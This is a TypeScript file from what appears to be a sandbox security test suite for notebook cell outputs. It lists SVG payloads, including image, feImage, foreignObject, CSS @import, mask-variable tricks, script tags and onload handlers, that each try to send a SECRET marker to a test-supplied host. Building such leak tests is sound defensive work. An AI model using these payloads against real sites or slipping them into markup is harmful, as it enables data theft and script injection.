import type { Addresses, Payload } from '../payload.ts';
import { outputActing } from './outputActing.ts';
import { outputLinks } from './outputLinks.ts';
import { outputLoading } from './outputLoading.ts';
import { outputMutating } from './outputMutating.ts';
import { outputStyles } from './outputStyles.ts';
import { act, html, pressed, svg, writtenInPage } from './shownMarkup.ts';

const drawnLink = ({ http }: Addresses) =>
	`<svg xmlns="http://www.w3.org/2000/svg" width="99" height="99"><a href="${http}?SECRET"><rect width="99" height="99"/></a></svg>`;

/** Drawings: within an author's HTML, and as outputs of their own. */
const drawn: readonly Payload[] = [
	html(
		'svg-image',
		'SVG image',
		({ http }) => `<svg><image href="${http}?SECRET" width="9" height="9"/></svg>`
	),
	html('svg-use', 'SVG use', ({ http }) => `<svg><use href="${http}x.svg?SECRET#a"/></svg>`, {
		control: { kind: 'none', why: 'Use takes from its own origin alone: other hosts are not asked.' }
	}),
	html(
		'svg-feimage',
		'SVG feImage',
		({ http }) =>
			`<svg><filter id="f"><feImage href="${http}?SECRET"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`
	),
	html(
		'svg-foreign',
		'SVG foreignObject',
		({ http }) => `<svg><foreignObject width="9" height="9"><img src="${http}?SECRET"></foreignObject></svg>`
	),
	html('svg-style', 'SVG style', ({ http }) => `<svg><style>@import url(${http}x.css?SECRET);</style></svg>`),
	html('svg-script', 'SVG script', (at) => `<svg><script>${act(at)}</script></svg>`),
	html(
		'svg-fill',
		'SVG fill',
		({ http }) =>
			`<svg style="--plot-background:"><rect width="9" height="9" mask="var(--plot-background,'/*') url(${http}x.svg?SECRET#a)"/></svg>`
	),
	svg(
		'drawn-image',
		'SVG image',
		({ http }) =>
			`<svg xmlns="http://www.w3.org/2000/svg"><image href="${http}?SECRET" width="9" height="9"/></svg>`
	),
	svg(
		'drawn-script',
		'SVG script',
		(at) => `<svg xmlns="http://www.w3.org/2000/svg"><script>${act(at)}</script></svg>`
	),
	svg(
		'drawn-onload',
		'SVG event attribute',
		(at) => `<svg xmlns="http://www.w3.org/2000/svg" onload="${act(at)}"/>`
	),
	svg(
		'drawn-style',
		'SVG style',
		({ http }) =>
			`<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(${http}x.css?SECRET);</style></svg>`
	),
	svg(
		'drawn-foreign',
		'SVG foreignObject',
		({ http }) =>
			`<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="${http}?SECRET"/></foreignObject></svg>`
	),
	svg('drawn-link', 'SVG a', drawnLink, { ...pressed('img, rect'), control: writtenInPage(drawnLink) }),
	svg(
		'drawn-stylesheet',
		'XML stylesheet',
		({ http }) =>
			`<svg xmlns="http://www.w3.org/2000/svg"><link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="${http}x.css?SECRET"/></svg>`
	)
];

/** An author's HTML and SVG, as the output of a cell. */
export const output: readonly Payload[] = [
	...outputLoading,
	...outputStyles,
	...outputLinks,
	...drawn,
	...outputActing,
	...outputMutating
];
